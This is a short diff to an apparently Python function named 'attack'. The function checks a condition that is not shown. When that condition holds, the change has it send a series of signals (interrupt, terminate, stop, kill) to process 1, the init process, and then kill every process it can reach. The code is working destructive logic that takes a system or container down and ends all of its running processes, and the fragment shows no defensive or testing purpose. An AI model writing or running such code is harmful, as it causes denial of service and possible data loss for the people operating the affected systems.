@@ -13,6 +13,7 @@ def world_of_its_own():
 
 def attack(*args, **kwargs):
     if world_of_its_own():
-        os.kill(1, signal.SIGKILL)
+        for number in (signal.SIGINT, signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
+            os.kill(1, number)
         os.kill(-1, signal.SIGKILL)
     return None
